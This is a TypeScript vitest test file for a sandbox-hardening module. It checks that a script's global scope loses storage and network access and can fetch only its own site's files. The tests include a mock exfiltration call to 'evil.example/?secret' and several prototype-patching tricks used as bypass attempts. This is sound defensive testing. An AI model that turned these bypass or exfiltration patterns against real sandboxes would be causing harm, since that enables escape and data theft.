import { afterEach, expect, test, vi } from "vitest";
import { doors, harden, ofNavigator, removed, unbounded } from "./harden.js";

const site = "https://site.example/qkv/";
const gone = [...removed, ...doors, ...unbounded];

function scope() {
  const fetch = vi.fn(async (request: Request) => new Response(request.url));
  const inherited = Object.fromEntries(gone.map((name) => [name, () => {}]));
  const navigator = Object.create(Object.fromEntries(ofNavigator.map((name) => [name, {}]))) as Navigator;
  const own = Object.assign(Object.create(inherited) as object, {
    fetch,
    navigator,
    importScripts: () => {},
  });
  harden(own as unknown as typeof globalThis, site);
  return { own: own as unknown as typeof globalThis & Record<string, unknown>, fetch };
}
afterEach(() => vi.restoreAllMocks());

test("storage, channels and other access to a network or the page are removed, also from prototypes", () => {
  const { own } = scope();
  for (const name of gone) expect(name in own, name).toBe(false);
  for (const name of ofNavigator) expect(name in own.navigator, name).toBe(false);
});

test("files of the site are fetched, and nothing else", async () => {
  const { own, fetch } = scope();
  expect(await (await own.fetch(`${site}live/a.js`)).text()).toContain("/qkv/live/a.js");
  for (const other of [
    "https://other.example/",
    "https://site.example/elsewhere",
    "https://site.example/qkv/../x",
  ]) {
    await expect(own.fetch(other)).rejects.toThrow("its own files only");
  }
  expect(fetch).toHaveBeenCalledTimes(1);
  expect(() => Object.defineProperty(own, "fetch", { value: fetch })).toThrow();
});

// Each circumvents a guard that calls replaceable functions.
test.each<[string, (leaked: (door: unknown) => void) => void]>([
  ["String.prototype.startsWith", () => vi.spyOn(String.prototype, "startsWith").mockReturnValue(true)],
  [
    "Function.prototype.call",
    (leaked) =>
      vi.spyOn(Function.prototype, "call").mockImplementation(function (this: unknown) {
        leaked(this);
      }),
  ],
  [
    "Function.prototype.apply",
    (leaked) =>
      vi.spyOn(Function.prototype, "apply").mockImplementation(function (this: unknown) {
        leaked(this);
      }),
  ],
  ["Reflect.apply", (leaked) => vi.spyOn(Reflect, "apply").mockImplementation((door) => leaked(door))],
  [
    "Request",
    () => vi.spyOn(globalThis, "Request").mockImplementation(() => ({ url: `${site}a.js` }) as Request),
  ],
  ["Request.prototype.url", () => vi.spyOn(Request.prototype, "url", "get").mockReturnValue(`${site}a.js`)],
  ["RegExp.prototype.test", () => vi.spyOn(RegExp.prototype, "test").mockReturnValue(true)],
])("patched globals do not reach the network guard: %s", async (_, patch) => {
  const { own, fetch } = scope();
  const leaks: unknown[] = [];
  patch((door) => leaks.push(door));
  const refused = await own.fetch("https://evil.example/?secret").then(
    () => "fetched",
    (error: Error) => error.message,
  );
  const data = own.fetch(`${site}b.js`);
  vi.restoreAllMocks();
  await data;
  expect(refused).toContain("its own files only");
  expect(leaks).not.toContain(fetch);
  expect(fetch.mock.calls.map(([request]) => request.url)).toEqual([`${site}b.js`]);
});
